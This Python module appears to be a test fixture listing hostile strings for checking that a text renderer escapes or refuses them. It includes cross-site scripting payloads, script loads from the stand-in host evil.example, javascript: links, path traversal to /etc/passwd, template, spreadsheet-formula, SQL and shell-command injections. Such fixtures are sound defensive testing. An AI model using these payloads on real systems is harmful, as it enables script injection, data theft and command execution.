"""Texts that a page, a table, a template or a terminal might take for more than text. Each says `alert(1)`, asks
`evil.example` for something, or puts an element of the class `trap` on the page, if it is believed.
"""

from __future__ import annotations

MARKUP = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>",
    "</style><img src=x onerror=alert(1)>", "</noscript><img src=x onerror=alert(1)>", "</template><svg onload=alert(1)>",
    "</svg></math><img src=x onerror=alert(1)>", "</main></body></html><b class=trap>", "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>", "<img/src=x/onerror=alert(1)>", "<img srcset=//evil.example/y.png>", "<image href=//evil.example/z>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><style>*{x:url(//evil.example)}</style>",
    "<svg><a xlink:href=javascript:alert(1)><text>x", "<svg><animate onbegin=alert(1)>", "<svg><use href=//evil.example/u#x />",
    "<math><mi xlink:href=javascript:alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example/o></object>", "<embed src=//evil.example/e>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/c>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><button class=trap>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=//evil.example/a>", "<marquee onstart=alert(1)>", "<body onload=alert(1)>", "<style>@import '//evil.example/s'</style>",
    "<p style=background:url(//evil.example)>", "<table background=//evil.example/b>", "<div contenteditable onblur=alert(1) class=trap>",
    "<a href=javascript:alert(1) class=trap>go</a>", "<a href='//evil.example' ping=//evil.example>", "<template><b class=trap>", "<slot><b class=trap>",
    "<plaintext>", "<xmp>", "<listing>", "<textarea>", "<noscript>", "<!--", "-->", "<!-- --!><script>alert(1)</script>", "<![CDATA[<b class=trap>]]>",
    "]]>", "<?xml-stylesheet href='//evil.example'?>", "<!DOCTYPE html>", "<b class=trap", "<b/class=trap>", "< b class=trap>", "<\u200bscript>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "&lt;b class=trap&gt;", "&#60;b class=trap&#62;", "&#x3c;b class=trap&#x3e;", "&amp;lt;b class=trap&amp;gt;", "&", "&;", "&nosuch;",
]  # fmt: skip
QUOTES = [
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "` onload=`alert(1)",
    "x onclick=alert(1)", '"/><img src=x onerror=alert(1)>', "'-alert(1)-'", '";alert(1);//', "\\';alert(1);//", "\\\";alert(1);//", "`${alert(1)}`", "*/alert(1)/*",
    "}</style><b class=trap>", "};alert(1);{", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)", "__proto__", "constructor", "toString",
]  # fmt: skip
ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "blob:https://evil.example/1", "//evil.example", "\\\\evil.example\\share", "https://evil.example/x.js",
    "https:evil.example", "www.evil.example", "<https://evil.example/a>", "file:///etc/passwd", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f",
    "#<b class=trap>", "?x=<b class=trap>", "#main", "record:nobody/../..",
]  # fmt: skip
TEMPLATES = [
    "{{ 7 * 7 }}", "{{ view.__class__.__mro__ }}", "{{ self }}", "{{ lipsum.__globals__ }}", "{% raw %}", "{% endraw %}", "{% endblock %}", "{% include 'base.html' %}",
    "{# gone #}", "{#", "#}", "}}", "{{{x}}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "[[7*7]]", "{0.__class__}", "{view!r}", "%(x)s", "%s%n%d", "$x", "\\1", "\\g<0>", "$(id)",
]  # fmt: skip
MARKDOWN = [
    "**", "*<b class=trap>*", "__", "~~~", "```", "`<b class=trap>`", "# heading", "#", "===", "---", "> quote", "- item", "1. item", "2019. A year", "| a | b |", "|---|---|",
    "***", "\\*", "[a", "a]", "](x)", "![", "[^1]", "[a][b]", "<br>", "a  ", "[TOC]", ":::", "+++", "\\",
]  # fmt: skip
PROGRAMS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("//evil.example")', "+1", "-1", "@SUM(1)", "a,b", "a;b", "a|b", "a\\|b", '"', '""', "'", "'; DROP TABLE x;--", "| cat /etc/passwd",
    "%00", "%0d%0aSet-Cookie: x=1", "\\r\\n", "\\0", "null", "None", "undefined", "NaN", "true", "no", "~", "012", "0x41", "1e309", "-0", "1:30", "2020-02-30", "con", "-rf", "::error::x", "\\x1b[31m",
]  # fmt: skip
LETTERS = [
    "🌊🛟👩🏽‍🚒🏴󠁧󠁢󠁥󠁮󠁧󠁿", "مرفأ שלום", "ประเทศไทยไม่มีช่องว่าง", "中文字符，没有空格。", "e\u0301\u0302\u0303\u0304\u0305", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d", "a\u200bb\u200cc\u200dd\u2060e",
    "\u200e\u200f", "soft\u00adhyphen", "no\u00a0break", "a\u3000b", "İıſK", "ﬀ ﬃ ß", "\ufffd", "\ue000", "\U000e0041", "\u3164", "\U0001d56d\U0001d56e", "\u0308", "x" * 120, "x/" * 60, "word " * 40,
]  # fmt: skip

STRINGS = list(dict.fromkeys(MARKUP + QUOTES + ADDRESSES + TEMPLATES + MARKDOWN + PROGRAMS + LETTERS))
"""What may stand in any text: it is printed as it is, or kept from being published where it looks like a slip (T405)."""

LINKS = [
    "[a](javascript:alert(1))", "[a](JAVASCRIPT:alert(1))", "[a]( javascript:alert(1))", "[a](java&#9;script:alert(1))", "[a](&#106;avascript:alert(1))", "[a](javascript&colon;alert(1))",
    "[a](vbscript:x)", "[a](data:text/html,x)", "[a](//evil.example)", "[a](\\\\evil.example)", "[a](/\\evil.example)", "[a](file:///etc/passwd)", "[a](evil.example)", "[a](../x)",
    "[a](x:y)", "[a]()", "[a](<javascript:alert(1)>)", "[a](javascript:alert(1) 'title')", "[a][b]\n\n[b]: javascript:alert(1)", "[b]\n\n[b]: data:text/html,x", "**[a](javascript:x)**",
    "> [a](javascript:x)", "- [a](javascript:x)", "| [a](javascript:x) |\n|---|\n| b |", "# [a](javascript:x)", "[a](https://x/\ty)", "[a](ftp://evil.example)", "[a](tel:1)", "[a](?x)",
]  # fmt: skip
"""What may not stand in prose."""

REFUSED = [
    *map(
        chr,
        [
            *range(9),
            11,
            12,
            *range(14, 32),
            127,
            133,
            0x2028,
            0x2029,
            0x202A,
            0x202D,
            0x202E,
            0x2066,
            0x2069,
            0xFEFF,
            0xFFFE,
            0xFFFF,
        ],
    ),
    "\ud800",
]
"""Characters that may not stand in content."""
